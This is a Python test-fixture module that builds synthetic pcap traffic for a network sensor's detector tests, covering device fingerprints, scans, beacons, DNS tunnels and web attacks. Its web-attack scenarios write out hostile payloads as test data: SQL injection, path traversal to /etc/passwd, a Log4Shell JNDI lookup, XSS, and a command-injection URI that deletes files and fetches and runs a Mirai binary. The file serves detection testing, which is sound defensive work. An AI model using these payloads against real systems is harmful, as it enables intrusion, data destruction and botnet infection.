# SPDX-License-Identifier: Apache-2.0
"""detectgen: crafted traffic for the sensor's detector tests.

Each function writes one small scenario into an open pcapgen.PcapWriter:
the traffic a detector must flag (a Windows XP DHCP request, an iPhone
joining, a port scan, a beacon, a clear-text login, ...). Payloads come from
appgen (protocol messages built from the specifications); addresses are
documentation ranges (192.0.2/24, 198.51.100/24, 203.0.113/24) or RFC 1918,
names are example domains. tests/sensor/detect/detect_test.py pairs each
scenario with its configuration, intel file and expected signature ids.
"""
import ipaddress
import struct

import appgen as a
import pcapgen as g

OFFICE_PC = "192.168.1.10"
OFFICE_MAC = g.MAC_A
GATEWAY_MAC = g.MAC_B
RESOLVER = "192.168.1.1"


def dns_lookup(w, name, client=OFFICE_PC, answers=("203.0.113.80",), rcode=0, mac=OFFICE_MAC,
               ident=0x2222):
    """A DNS query and its answer (or an error code)."""
    w.udp((client, 53000), (RESOLVER, 53), g.dns_query(name, ident=ident), src_mac=mac,
          dst_mac=GATEWAY_MAC)
    w.udp((RESOLVER, 53), (client, 53000),
          g.dns_response(name, answers if rcode == 0 else (), rcode=rcode, ident=ident),
          src_mac=GATEWAY_MAC, dst_mac=mac)


def tls_hello(w, server, sni, client=OFFICE_PC, sport=51000, mac=OFFICE_MAC):
    """A TCP handshake and a TLS ClientHello naming sni."""
    s = g.TcpSession(w, (client, sport), server, client_mac=mac, server_mac=GATEWAY_MAC)
    s.handshake()
    hello = a.client_hello([0x1301, 0xC02F, 0x009C], [a.ext_sni(sni), a.ext_alpn(["h2"])])
    s.send(a.tls_record(22, hello))
    s.close()


def http_get(w, server, host, uri, client=OFFICE_PC, sport=52000, mac=OFFICE_MAC,
             ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)", extra=b""):
    """A TCP session carrying one HTTP GET and a short answer."""
    s = g.TcpSession(w, (client, sport), server, client_mac=mac, server_mac=GATEWAY_MAC)
    s.handshake()
    req = a.http_request(host=host, uri=uri, ua=ua)
    if extra:
        req = req[:-2] + extra + b"\r\n"
    s.send(req)
    s.recv(a.http_response(body=b"ok"))
    s.close()


def syn(w, src, sport, dst, dport, mac=OFFICE_MAC, ts=None, flags=g.TCP_SYN):
    w.tcp((src, sport), (dst, dport), 1000, 0, flags, src_mac=mac, dst_mac=GATEWAY_MAC,
          ts=ts, options=b"\x02\x04\x05\xb4")


def dhcp_request(w, mac, hostname, params, vendor=None, requested="192.168.1.23"):
    """A DHCPREQUEST broadcast with option 55 in the given order."""
    opts = [(61, b"\x01" + g.mac_bytes(mac)),
            (50, ipaddress.IPv4Address(requested).packed),
            (12, hostname.encode())]
    if vendor:
        opts.append((60, vendor.encode()))
    opts.append((55, bytes(params)))
    msg = a.dhcp_message(mac=mac, options=opts)
    w.udp(("0.0.0.0", 68), ("255.255.255.255", 67), msg, src_mac=mac,
          dst_mac="ff:ff:ff:ff:ff:ff")


# ---- scenarios ----------------------------------------------------------------


def intel_traffic(w):
    """DNS, TLS, HTTP and a plain connection to listed indicators, plus one
    unlisted lookup that must stay quiet."""
    dns_lookup(w, "www.c2-test.example", ident=1)
    dns_lookup(w, "harmless.example.org", ident=2)
    tls_hello(w, ("203.0.113.81", 443), "api.tls-test.example")
    http_get(w, ("203.0.113.82", 80), "dl.example.net", "/payload/loader.bin?id=7")
    syn(w, OFFICE_PC, 53123, "198.51.100.66", 8443)


def intel_weak(w):
    """Intel matches that say little on their own, next to ones that say
    more: a listed JA3 on a connection to an allowlisted site, then the same
    JA3 to an unknown site; an office PC reaching into a mass scanner's
    range and a name resolving into it, then the scanner probing the PC."""
    tls_hello(w, ("203.0.113.85", 443), "www.allowed-site.example", sport=51010)
    tls_hello(w, ("203.0.113.86", 443), "unknown-site.example", sport=51011)
    syn(w, OFFICE_PC, 53124, "192.0.2.77", 443)
    dns_lookup(w, "cloud-app.example", answers=("192.0.2.78",), ident=3)
    w.tcp(("192.0.2.79", 40000), (OFFICE_PC, 22), 1000, 0, g.TCP_SYN, src_mac=GATEWAY_MAC,
          dst_mac=OFFICE_MAC, options=b"\x02\x04\x05\xb4")


def intel_scanner(w):
    """Mass scanners listed beside C2 ranges (detect_test's feeds: a scanner
    list read first, then a C2 list naming the same /24 and a /16 around a
    scanner's /24): the office PC connecting into both C2 ranges, into a
    scanner's range only, a server in a scanner's range answering the PC
    (its SYN not captured: the PC opened the connection), and a scanner
    probing the PC from outside."""
    syn(w, OFFICE_PC, 53130, "198.18.1.10", 443)
    syn(w, OFFICE_PC, 53131, "198.19.7.20", 443)
    syn(w, OFFICE_PC, 53132, "198.18.9.30", 443)
    w.tcp(("198.18.9.31", 443), (OFFICE_PC, 53133), 5000, 1001, g.TCP_SYN | g.TCP_ACK,
          src_mac=GATEWAY_MAC, dst_mac=OFFICE_MAC, options=b"\x02\x04\x05\xb4")
    w.tcp(("198.18.9.40", 40000), (OFFICE_PC, 22), 1000, 0, g.TCP_SYN, src_mac=GATEWAY_MAC,
          dst_mac=OFFICE_MAC, options=b"\x02\x04\x05\xb4")


def intel_udp_reply(w):
    """UDP next to a listed address: a listed DNS server's answer seen
    before its question (the capture or the sensor started in the middle
    of a lookup), then the office PC's next question on the same
    ports; and a listed address probing the PC's SNMP port from outside."""
    w.udp(("198.51.100.53", 53), (OFFICE_PC, 53001),
          g.dns_response("www.example.org", ("203.0.113.80",), ident=7), src_mac=GATEWAY_MAC,
          dst_mac=OFFICE_MAC)
    w.udp((OFFICE_PC, 53001), ("198.51.100.53", 53), g.dns_query("www.example.org", ident=8),
          src_mac=OFFICE_MAC, dst_mac=GATEWAY_MAC)
    w.udp(("198.51.100.99", 40000), (OFFICE_PC, 161), b"\x30\x00", src_mac=GATEWAY_MAC,
          dst_mac=OFFICE_MAC)


def windows_xp(w):
    """A Windows XP PC asking for its address (the XP DHCP fingerprint with
    vendor class MSFT 5.0), then browsing with its XP user agent."""
    mac = "00:03:47:b7:f2:f5"
    dhcp_request(w, mac, "OLDPC", [1, 15, 3, 6, 44, 46, 47, 31, 33, 43], "MSFT 5.0",
                 requested="192.168.1.23")
    http_get(w, ("203.0.113.90", 80), "www.example.com", "/", client="192.168.1.23", mac=mac,
             ua="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")


def iphone(w):
    """An iPhone joining: the iOS DHCP fingerprint, then an mDNS announcement."""
    mac = "c4:61:8b:00:00:01"
    dhcp_request(w, mac, "Kenta-iPhone", [1, 121, 3, 6, 15, 119, 252],
                 requested="192.168.1.40")
    w.udp(("192.168.1.40", 5353), ("224.0.0.251", 5353),
          a.mdns_announce("Kenta-iPhone", "192.168.1.40"), src_mac=mac,
          dst_mac="01:00:5e:00:00:fb")


PHONE_MAC = "c4:61:8b:00:00:02"


def dhcp_discover(w, mac, hostname, params):
    """A first DHCPDISCOVER, asking for no address (no option 50)."""
    msg = a.dhcp_message(msg_type=1, mac=mac, options=[
        (61, b"\x01" + g.mac_bytes(mac)), (12, hostname.encode()), (55, bytes(params))])
    w.udp(("0.0.0.0", 68), ("255.255.255.255", 67), msg, src_mac=mac,
          dst_mac="ff:ff:ff:ff:ff:ff")


def iphone_discover(w):
    """An iPhone joining for the first time: its DHCPDISCOVER asks for no
    address; the router's offer gives it 192.168.1.41."""
    dhcp_discover(w, PHONE_MAC, "Kenta-iPhone", [1, 121, 3, 6, 15, 119, 252])
    offer = a.dhcp_message(op=2, msg_type=2, mac=PHONE_MAC, yiaddr="192.168.1.41", options=[
        (54, ipaddress.IPv4Address(RESOLVER).packed), (51, struct.pack("!I", 86400))])
    w.udp((RESOLVER, 67), ("255.255.255.255", 68), offer, src_mac=GATEWAY_MAC,
          dst_mac="ff:ff:ff:ff:ff:ff")


def iphone_no_address(w):
    """An iPhone whose DHCPDISCOVER nobody answers: it never has an address."""
    dhcp_discover(w, PHONE_MAC, "Kenta-iPhone", [1, 121, 3, 6, 15, 119, 252])


BOX_MAC = "02:00:00:00:00:78"
BOX_IP = "192.168.1.78"


def discover_late(w):
    """An unknown Linux box asks for an address (its DHCPDISCOVER asks for
    none), then says nothing for 45 s; its first traffic (a DNS query from
    its address) comes after the 30 s the new-device alert waits."""
    dhcp_discover(w, BOX_MAC, "quiet-box", [1, 28, 2, 3, 15, 6, 119, 12, 44, 47, 26, 121, 42])
    w.t += 45.0
    w.udp((BOX_IP, 53001), (RESOLVER, 53), g.dns_query("www.example.com", ident=0x3333),
          src_mac=BOX_MAC, dst_mac=GATEWAY_MAC)


def new_device(w):
    """An unknown Linux box appears (dhclient fingerprint)."""
    dhcp_request(w, "02:00:00:00:00:77", "mystery-box",
                 [1, 28, 2, 3, 15, 6, 119, 12, 44, 47, 26, 121, 42], requested="192.168.1.77")


FILE_SERVER = "192.168.1.20"


def smb1(w):
    """An SMB1-only negotiation between two office hosts and the SMB1 answer:
    the client (the office PC) uses SMB1."""
    s = g.TcpSession(w, (OFFICE_PC, 49200), (FILE_SERVER, 445))
    s.handshake(ttl=128)
    s.send(a.smb1_negotiate_request())
    s.recv(a.smb1_negotiate_response())
    s.close()


def smb1_server(w):
    """A modern client offering SMB1 and SMB 2 to a file server that answers
    in SMB1: the server offers SMB1."""
    s = g.TcpSession(w, (OFFICE_PC, 49201), (FILE_SERVER, 445))
    s.handshake(ttl=128)
    s.send(a.smb1_negotiate_request(("NT LM 0.12", "SMB 2.002", "SMB 2.???")))
    s.recv(a.smb1_negotiate_response(index=0))
    s.close()


def smb1_setup(w):
    """The middle of an SMB1 connection (its negotiation not captured): the
    server's session setup answer, then the client's next request; the
    server is the side on port 445."""
    s = g.TcpSession(w, (OFFICE_PC, 49202), (FILE_SERVER, 445))
    s.recv(a.smb1_session_setup_response())
    s.send(a.smb1_session_setup_request())


def outbound_services(w):
    """An office PC using SMB, RDP and Telnet with hosts on the internet
    (each connection accepted and carrying the client's first message),
    and NetBIOS."""
    sessions = ((50001, ("203.0.113.30", 445), a.smb2_negotiate_request()),
                (50002, ("203.0.113.31", 3389), a.rdp_connection_request()),
                (50003, ("203.0.113.32", 23), b"\xff\xfd\x18\xff\xfb\x1f"))
    for sport, server, first in sessions:
        s = g.TcpSession(w, (OFFICE_PC, sport), server, client_mac=OFFICE_MAC,
                         server_mac=GATEWAY_MAC)
        s.handshake()
        s.send(first)
        s.close()
    w.udp((OFFICE_PC, 137), ("203.0.113.33", 137), a.nbns_query("FILESERVER"),
          src_mac=OFFICE_MAC, dst_mac=GATEWAY_MAC)


def outbound_many(w):
    """An office PC using SMB (two connections), RDP and Telnet with hosts
    on the internet, each connection carrying 20 data segments each way
    (the client's first message, then more data, each answered)."""
    sessions = ((50011, ("203.0.113.30", 445), a.smb2_negotiate_request()),
                (50012, ("203.0.113.34", 445), a.smb2_negotiate_request()),
                (50013, ("203.0.113.31", 3389), a.rdp_connection_request()),
                (50014, ("203.0.113.32", 23), b"\xff\xfd\x18\xff\xfb\x1f"))
    for sport, server, first in sessions:
        s = g.TcpSession(w, (OFFICE_PC, sport), server, client_mac=OFFICE_MAC,
                         server_mac=GATEWAY_MAC)
        s.handshake()
        for i in range(20):
            s.send(first if i == 0 else b"client data %02d" % i)
            s.recv(b"server data %02d" % i)
        s.close()


def syn_scan_out(w):
    """An office PC SYN-scanning a host on the internet (as nmap -sS does):
    bare SYNs to 30 ports, SMB, RDP and Telnet among them; the host accepts
    on 22, 80 and 445 (the scanner resets those at once) and refuses the
    rest. No connection carries data."""
    target = "203.0.113.40"
    ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 2323,
             3306, 3389, 5900, 8080, 8443, 113, 199, 256, 554, 587, 1025, 1720, 8888]
    for port in ports:
        syn(w, OFFICE_PC, 36050, target, port)
        if port in (22, 80, 445):
            w.tcp((target, port), (OFFICE_PC, 36050), 7000, 1001, g.TCP_SYN | g.TCP_ACK,
                  src_mac=GATEWAY_MAC, dst_mac=OFFICE_MAC, options=b"\x02\x04\x05\xb4")
            w.tcp((OFFICE_PC, 36050), (target, port), 1001, 0, g.TCP_RST, src_mac=OFFICE_MAC,
                  dst_mac=GATEWAY_MAC)
        else:
            w.tcp((target, port), (OFFICE_PC, 36050), 0, 1001, g.TCP_RST | g.TCP_ACK,
                  src_mac=GATEWAY_MAC, dst_mac=OFFICE_MAC)


def inbound_rdp(w):
    """A host on the internet opens RDP on an office PC, which answers."""
    w.tcp(("198.51.100.20", 40000), (OFFICE_PC, 3389), 7000, 0, g.TCP_SYN,
          src_mac=GATEWAY_MAC, dst_mac=OFFICE_MAC)
    w.tcp((OFFICE_PC, 3389), ("198.51.100.20", 40000), 9000, 7001, g.TCP_SYN | g.TCP_ACK,
          src_mac=OFFICE_MAC, dst_mac=GATEWAY_MAC)


def port_scan(w):
    """One office host probing 40 ports of another within a few seconds."""
    for port in range(20, 60):
        syn(w, "192.168.1.66", 41000, "192.168.1.20", port)


def host_sweep(w):
    """One office host trying port 445 on 40 neighbours (worm-like)."""
    for host in range(100, 140):
        syn(w, "192.168.1.66", 42000 + host, "192.168.1.%d" % host, 445)


def dga_names(w):
    """Lookups of machine-generated names, then a burst of NXDOMAIN answers."""
    dns_lookup(w, "xkqwzlvbnmfghjd.com", rcode=3, ident=10)
    for i in range(30):
        dns_lookup(w, "q%d.no-such-host.example" % i, rcode=3, ident=100 + i)


def dns_tunnel(w):
    """Thirty lookups of long encoded names under one domain, as a DNS tunnel
    (iodine, dnscat) sends them."""
    import base64
    for i in range(30):
        chunk = base64.b32encode(bytes((i * 37 + k * 11) % 256 for k in range(30)))
        name = chunk.decode().lower().rstrip("=") + ".t.tunnel-test.example"
        dns_lookup(w, name, ident=300 + i)


def beacon(w):
    """An office PC connecting to the same server every 60 seconds (+-0.5 s)."""
    t = w.t
    for i in range(12):
        ts = t + 60.0 * i + (0.5 if i % 2 else -0.5)
        syn(w, OFFICE_PC, 50100 + i, "203.0.113.50", 8080, ts=ts)
    w.t = t + 60.0 * 12


def cleartext(w):
    """HTTP Basic authentication to a printer, an FTP login, a Telnet prompt."""
    http_get(w, ("192.168.1.5", 80), "printer.local", "/admin", sport=52100,
             extra=b"Authorization: Basic b2ZmaWNlOnNlY3JldA==\r\n")
    s = g.TcpSession(w, (OFFICE_PC, 52200), ("203.0.113.60", 21))
    s.handshake()
    s.recv(b"220 ftp.example.net ready\r\n")
    s.send(b"USER tanaka\r\n")
    s.recv(b"331 Password required\r\n")
    s.send(b"PASS not-a-real-password\r\n")
    s.close()
    t = g.TcpSession(w, (OFFICE_PC, 52300), ("192.168.1.3", 23))
    t.handshake()
    t.recv(b"\r\nrouter login: ")
    t.close()


def clean_office(w):
    """Ordinary traffic that must raise nothing: lookups, HTTPS, a web page."""
    dns_lookup(w, "www.example.com", ident=20)
    tls_hello(w, ("203.0.113.80", 443), "www.example.com")
    http_get(w, ("203.0.113.80", 80), "www.example.com", "/index.html")
    dns_lookup(w, "mail.example.co.jp", ident=21)


# ---- web attacks (detect-webattack.c) ------------------------------------------

WEB_SERVER = ("192.168.1.80", 80)  # an office web server (NAS, router admin page)
ATTACKER = "198.51.100.30"


def web_request(w, server, host, uri, client=ATTACKER, sport=53000, ua="Mozilla/5.0",
                method="GET"):
    """One HTTP request and a short answer in its own TCP session."""
    s = g.TcpSession(w, (client, sport), server, client_mac=GATEWAY_MAC, server_mac=OFFICE_MAC)
    s.handshake()
    s.send(a.http_request(host=host, uri=uri, ua=ua, method=method))
    s.recv(a.http_response(body=b"ok"))
    s.close()


def web_sqli(w):
    """A tautology in a product id, percent-encoded, next to a password the
    evidence must not keep, and a long tail the evidence must cut."""
    web_request(w, WEB_SERVER, "shop.example",
                "/products.php?id=1%27%20OR%20%271%27%3D%271&password=hunter2&pad=" + "A" * 3000)


def web_traversal(w):
    """Double-encoded ../ sequences reaching for /etc/passwd."""
    web_request(w, WEB_SERVER, "shop.example", "/static/..%252f..%252f..%252fetc/passwd")


def web_rce(w):
    """A Log4Shell-style ${jndi:...} lookup in the query."""
    web_request(w, WEB_SERVER, "shop.example", "/api/login?user=$%7Bjndi:ldap://198.51.100.9/a%7D")


def web_xss(w):
    """A script planted through a search box."""
    web_request(w, WEB_SERVER, "shop.example",
                "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E")


def web_iot(w):
    """A router exploit fetching a Mirai build, and an office device
    fetching a botnet file from a bare IP address."""
    web_request(w, ("192.168.1.1", 8080), "192.168.1.1:8080",
                "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/bins/mirai.arm7;"
                "chmod+777+mirai.arm7;./mirai.arm7")
    http_get(w, ("198.51.100.99", 80), "198.51.100.99", "/mozi.m", client="192.168.1.50",
             ua="Wget")


def web_proxy(w):
    """An outsider asking the office web server to relay a page."""
    web_request(w, WEB_SERVER, "www.example.com", "http://www.example.com/")


def web_proxy_connect(w):
    """An outsider asking the office web server for a tunnel (CONNECT)."""
    web_request(w, WEB_SERVER, "www.example.org:443", "www.example.org:443", method="CONNECT")


def web_exe(w):
    """An office PC fetching a program over plain HTTP."""
    http_get(w, ("203.0.113.70", 80), "downloads.example.net", "/tools/Setup.EXE?ref=mail")


def web_tool_ua(w):
    """A vulnerability scanner announcing itself."""
    web_request(w, WEB_SERVER, "shop.example", "/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")


def web_scan(w):
    """One outsider asking for 15 different admin and backup paths."""
    paths = ["/admin/", "/wp-login.php", "/phpmyadmin/", "/.env", "/backup.zip", "/config.php",
             "/.git/config", "/server-status", "/login", "/manager/html", "/old/", "/test.php",
             "/db.sql", "/admin.php", "/setup/"]
    for i, path in enumerate(paths):
        web_request(w, WEB_SERVER, "shop.example", path, sport=54000 + i)


def web_clean(w):
    """Ordinary web use that must stay quiet: a page with its many images,
    styles and scripts, a dozen pages read by an office PC, curl and wget
    fetching a .zip, a search for ordinary words, python-requests, and an
    office PC using its proxy (absolute target and CONNECT)."""
    site = ("203.0.113.80", 80)
    http_get(w, site, "www.example.com", "/index.html")
    for i in range(20):
        ext = ("css", "js", "png", "jpg", "svg")[i % 5]
        http_get(w, site, "www.example.com", "/assets/item%d.%s" % (i, ext), sport=52010 + i)
    for i in range(14):
        http_get(w, site, "www.example.com", "/news/2026/%02d.html" % (i + 1), sport=52040 + i)
    http_get(w, site, "www.example.com", "/files/manual.zip", sport=52060, ua="curl/8.5.0")
    http_get(w, site, "www.example.com", "/files/data.zip", sport=52061, ua="Wget/1.21.4")
    http_get(w, site, "www.example.com", "/search?q=select+a+union+member&lang=ja", sport=52062)
    http_get(w, site, "www.example.com", "/api/v1/items?page=2", sport=52063,
             ua="python-requests/2.31.0")
    http_get(w, site, "www.example.com", "/faq?topic=it%27s+ok+or+not", sport=52064)
    proxy = ("192.168.1.2", 3128)
    http_get(w, proxy, "www.example.com", "http://www.example.com/index.html", sport=52065)
    s = g.TcpSession(w, (OFFICE_PC, 52066), proxy, client_mac=OFFICE_MAC, server_mac=GATEWAY_MAC)
    s.handshake()
    s.send(a.http_request(host="www.example.org:443", uri="www.example.org:443",
                          method="CONNECT"))
    s.close()


SCENARIOS = {
    "intel": intel_traffic,
    "intel-weak": intel_weak,
    "intel-scanner": intel_scanner,
    "intel-udp-reply": intel_udp_reply,
    "windows-xp": windows_xp,
    "iphone": iphone,
    "iphone-discover": iphone_discover,
    "iphone-no-address": iphone_no_address,
    "new-device": new_device,
    "smb1": smb1,
    "smb1-server": smb1_server,
    "smb1-setup": smb1_setup,
    "outbound": outbound_services,
    "outbound-many": outbound_many,
    "discover-late": discover_late,
    "syn-scan-out": syn_scan_out,
    "inbound-rdp": inbound_rdp,
    "port-scan": port_scan,
    "host-sweep": host_sweep,
    "dga": dga_names,
    "dns-tunnel": dns_tunnel,
    "beacon": beacon,
    "cleartext": cleartext,
    "clean": clean_office,
    "web-sqli": web_sqli,
    "web-traversal": web_traversal,
    "web-rce": web_rce,
    "web-xss": web_xss,
    "web-iot": web_iot,
    "web-proxy": web_proxy,
    "web-proxy-connect": web_proxy_connect,
    "web-exe": web_exe,
    "web-tool-ua": web_tool_ua,
    "web-scan": web_scan,
    "web-clean": web_clean,
}


def write(path, name):
    """Writes scenario name into a new pcap at path."""
    w = g.PcapWriter(path)
    SCENARIOS[name](w)
    w.close()


if __name__ == "__main__":
    import sys
    write(sys.argv[1], sys.argv[2])
